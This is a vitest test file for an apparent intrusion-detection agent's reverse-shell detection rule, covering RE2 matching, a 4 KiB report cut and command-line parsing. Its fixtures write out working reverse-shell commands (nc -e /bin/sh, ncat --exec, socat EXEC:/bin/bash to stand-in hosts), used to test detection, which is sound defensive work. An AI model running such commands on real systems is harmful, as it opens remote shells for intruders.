// Issue 13 row 3: PROCESS patterns run on RE2 against the whole command line (alerts report it cut
// to 4 KiB), and the default
// reverse-shell rule still catches the same attacks without matching everyday commands.
import { createLogger } from '@tripwire/logger';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RULES_FILE, loadLocalRules } from '../../src/local-rules.js';
import { fullCmdline, parseCmdline } from '../../src/sensors/proc-processes.js';
import { compileProcessPattern } from '../../src/sensors/process-pattern.js';
import { rule } from './sensor-harness.js';

const log = createLogger({ name: 'pattern-test', level: 'silent' });
const reverseShell = loadLocalRules(DEFAULT_RULES_FILE).find(
  (r) => r.name === 'reverse-shell-tools',
)!;
const pattern = compileProcessPattern(reverseShell, log)!;

describe('the default reverse-shell rule', () => {
  it.each([
    'nc -e /bin/sh 203.0.113.7 4444',
    '/usr/bin/nc -lvp 4444 -e /bin/bash',
    'nc.traditional -c /bin/sh 10.0.0.1 9001',
    'netcat -nve /bin/sh 10.0.0.1 9001',
    'ncat --exec /bin/bash 10.0.0.1 443',
    'ncat --sh-exec "bash -i" 10.0.0.1 443',
    '/bin/busybox nc 10.0.0.1 4444 -e /bin/sh',
    'socat TCP:10.0.0.1:4444 EXEC:/bin/bash',
    "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
    'socat OPENSSL:10.0.0.1:443,verify=0 SYSTEM:sh',
  ])('matches %s', (cmdline) => {
    expect(pattern.test(cmdline)).toBe(true);
  });

  it.each([
    'nc -zv db.internal 5432',
    'nc -l 8080',
    'ncat --version',
    'ncdu -x /',
    'socat TCP-LISTEN:8080,fork TCP:backend:80',
    'grep -e nc /etc/services',
    'vim /etc/nc.conf',
    'rsync -e ssh a b',
    '/usr/sbin/sshd -D',
    'bash -c echo nc',
  ])('does not match %s', (cmdline) => {
    expect(pattern.test(cmdline)).toBe(false);
  });

  it('returns at once on the whole 128 KiB of "/nc /nc …" (RE2), reported cut to 4 KiB', () => {
    const raw = Buffer.from(`${'/nc\0'.repeat(32 * 1024)}`);
    const cmdline = fullCmdline(raw, 4096);
    expect(cmdline.bytes).toBe(raw.length - 1);
    expect(Buffer.byteLength(cmdline.text)).toBe(4096);
    expect(Buffer.byteLength(cmdline.whole)).toBe(raw.length - 1);
    // RE2 answers on the whole (the JavaScript engine took ~9 s here: pnpm bench:agent-patterns).
    expect(pattern.test(cmdline.whole)).toBe(false);
    expect(pattern.test(`${cmdline.whole} -e /bin/sh`)).toBe(true);
  });

  it('matches a flag padded past the 4 KiB report cut (nc -v ×2,100; socat with a 5 KB argument)', () => {
    for (const argv of [
      ['nc', ...Array<string>(2100).fill('-v'), '-e', '/bin/sh', 'h', 'p'],
      ['socat', 'TCP:h:4444', 'x'.repeat(5000), 'EXEC:/bin/sh'],
    ]) {
      const cmdline = fullCmdline(Buffer.from(`${argv.join('\0')}\0`), 4096);
      expect(pattern.test(cmdline.text)).toBe(false);
      expect(pattern.test(cmdline.whole)).toBe(true);
    }
  });
});

describe('compiling a PROCESS rule', () => {
  it('refuses a pattern RE2 cannot run (backreference, lookaround) instead of backtracking', () => {
    expect(compileProcessPattern(rule('PROCESS', '(a+)\\1'), log)).toBeNull();
    expect(compileProcessPattern(rule('PROCESS', 'nc(?= -e)'), log)).toBeNull();
    expect(compileProcessPattern(rule('PROCESS', '^sleep \\d+$'), log)!.test('sleep 30')).toBe(
      true,
    );
  });

  it('matches a target that is no regular expression as a literal substring', () => {
    const literal = compileProcessPattern(rule('PROCESS', '[tw('), log)!;
    expect(literal.test('x [tw( y')).toBe(true);
    expect(literal.describe).toBe('"[tw("');
  });

  it('cuts a command line at a character boundary and keeps invalid UTF-8 as U+FFFD', () => {
    expect(parseCmdline(Buffer.from('nc\0-lvp\x004444\0'))).toBe('nc -lvp 4444');
    expect(parseCmdline(Buffer.from('aé'), 2)).toBe('a');
    expect(parseCmdline(Buffer.from([0x61, 0xff, 0x00, 0x62]))).toBe('a\uFFFD b');
  });
});
